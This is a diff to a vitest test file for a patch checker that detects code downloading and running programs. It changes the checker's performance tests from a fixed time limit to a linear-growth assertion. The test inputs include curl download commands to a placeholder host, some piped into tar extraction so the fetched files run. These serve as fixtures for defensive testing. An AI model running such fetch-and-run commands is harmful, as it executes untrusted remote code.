@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { checkPatch } from '../../shared/analysis/index.js';
+import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';
 
 /**
  * Pass 12 on the patch check (`shared/analysis/dangerous-code.ts`, `saved-download.ts`): ways to download code and run
@@ -216,16 +217,15 @@ describe('pass 12, gap 3: the cost of reading calls', () => {
     ['a chain of receivers', 'a.'],
     ['assignments of literals', "f = '/tmp/b'\n"],
   ] as const) {
-    it(`reads a patch-sized text of ${name}, after a download, in bounded time`, () => {
-      // Prepare: 18 KB, near the check's 20 KB
-      const text = `os.system('curl -s x.example/i -o /tmp/a')\n${unit.repeat(Math.floor(18_000 / unit.length))}`;
+    it(`reads a patch-sized text of ${name}, after a download, in linear time`, { timeout: 120_000 }, () => {
+      // Prepare: up to 18 KB, near the check's 20 KB
+      const textOf = (bytes: number) => `os.system('curl -s x.example/i -o /tmp/a')\n${unit.repeat(Math.floor(bytes / unit.length))}`;
 
       // Act
-      const started = performance.now();
-      checkPatch(patchAdding('src/setup_env.py', text.split('\n')));
+      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => checkPatch(patchAdding('src/setup_env.py', text.split('\n'))));
 
       // Assert
-      expect(performance.now() - started).toBeLessThan(2000);
+      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
     });
   }
 });
@@ -236,16 +236,15 @@ describe('pass 12, gap 4: the cost of following braces, loops and archives', () 
     ['braced outputs', 'curl -s x.example/i -o /tmp/{a,b,c,d}\n'],
     ['archives extracted and their files run', 'curl -sL x.example/x.tgz | tar xz -C /tmp/x\ncd /tmp/x\n'],
   ] as const) {
-    it(`reads a patch-sized text of ${name} in bounded time`, () => {
-      // Prepare: 18 KB, near the check's 20 KB
-      const text = unit.repeat(Math.floor(18_000 / unit.length));
+    it(`reads a patch-sized text of ${name} in linear time`, { timeout: 120_000 }, () => {
+      // Prepare: up to 18 KB, near the check's 20 KB
+      const textOf = (bytes: number) => unit.repeat(Math.floor(bytes / unit.length));
 
       // Act
-      const started = performance.now();
-      checkPatch(patchAdding('docs/install.md', text.split('\n')));
+      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => checkPatch(patchAdding('docs/install.md', text.split('\n'))));
 
       // Assert
-      expect(performance.now() - started).toBeLessThan(2000);
+      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
     });
   }
 });
